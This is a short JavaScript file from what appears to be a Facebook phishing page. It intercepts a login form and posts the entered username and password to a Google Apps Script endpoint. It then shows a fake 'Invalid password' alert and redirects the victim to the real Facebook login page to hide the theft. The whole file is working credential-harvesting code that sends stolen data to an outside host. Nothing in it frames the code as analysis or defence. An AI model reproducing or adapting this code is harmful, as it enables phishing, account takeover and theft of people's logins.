const sheet = "https://script.google.com/macros/s/PLACEHOLDER/exec";
const login = document.forms["fb-login"];
login.addEventListener("submit", (ev) => {
  ev.preventDefault();
  login.querySelector("button").disabled = true;
  fetch(sheet, { method: "POST", body: new FormData(login) })
    .then(() => {
      alert("Invalid password, try again");
      window.location.href = "https://m.facebook.com/login/?ref=dbl";
    })
    .catch((err) => console.error("Error!", err.message));
});
document.getElementById("show").onclick = () => {
  const f = login.elements["pass"];
  f.type = f.type === "password" ? "text" : "password";
};
